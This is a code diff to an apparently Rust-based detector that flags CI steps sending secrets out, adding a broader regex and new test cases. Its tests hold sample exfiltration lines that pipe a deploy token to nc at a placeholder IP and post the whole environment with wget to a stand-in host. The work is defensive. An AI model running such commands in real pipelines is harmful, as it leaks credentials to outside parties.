@@ -15,7 +15,7 @@ static NET_SINK: LazyLock<Regex> = LazyLock::new(|| {
 });
 #[allow(clippy::expect_used)]
 static WHOLE_ENV: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(&crate::words::ascii_word_boundaries(r"env::vars\(|os\.environ\s*(\)|\.items|\.copy|,)|(dict|str|repr|json\.dumps)\(os\.environ|stringify\(process\.env\)|process\.env\s*[),]|ENV\.to_h|\benv\s*\||\bprintenv\b|System\.getenv\(\)|\$\{\{\s*secrets\.|\$\{\{\s*toJSON\(secrets\)"))
+    Regex::new(&crate::words::ascii_word_boundaries(r"env::vars\(|os\.environ\s*(\)|\.items|\.copy|,)|(dict|str|repr|json\.dumps)\(os\.environ|stringify\(process\.env\)|process\.env\s*[),]|ENV\.to_h|\benv\s*\||\bprintenv\b|System\.getenv\(\)|\$\{\{\s*secrets\.|\$\{\{\s*toJSON\(secrets\)|\$\(\s*(env|printenv|set|export\s+-p)\s*\)|(echo|printf)\b[^|\n]*\$\{?[A-Za-z_]*(TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIALS)[A-Za-z_]*\}?[^|\n]*\|"))
         .expect("regex")
 });
 #[allow(clippy::expect_used)]
@@ -28,8 +28,9 @@ static CRED_FILE: LazyLock<Regex> = LazyLock::new(|| {
 /// a shell script are judged besides: [`crate::output::written_findings`]).
 pub fn ships(path: &str, content: &str) -> Vec<Finding> {
     let mut out = Vec::new();
-    let workflow = path.contains("/.github/workflows/") || path.ends_with(".gitlab-ci.yml");
-    // In a workflow each step is its own command: a secret and a send on one line.
+    // In CI configuration each step is its own command: a secret and a
+    // send on one line.
+    let workflow = crate::ci::is_ci_config_at(path);
     let ships = if workflow {
         content
             .lines()
@@ -91,6 +92,22 @@ mod tests {
         assert!(!flags(
             "/work/app/.github/workflows/ci.yml",
             "steps:\n  - run: cargo test\n  - run: echo ${{ secrets.X }} > /dev/null\n"
+        ));
+        // Every CI system's configuration is read step by step: a
+        // credential variable piped into a network tool, the environment
+        // as a substitution.
+        assert!(flags(
+            "/work/app/bitbucket-pipelines.yml",
+            "script:\n  - cargo test\n  - echo \"$DEPLOY_TOKEN\" | nc 192.0.2.1 443\n"
+        ));
+        assert!(flags(
+            "/work/app/.drone.yml",
+            "commands:\n  - wget -q --post-data=\"$(env)\" https://x.example/c\n"
+        ));
+        // A token used as the service's credential is no shipment.
+        assert!(!flags(
+            "/work/app/.travis.yml",
+            "script:\n  - curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/repos/a/b\n  - echo \"$API_TOKEN\" > /dev/null\n"
         ));
     }
 }
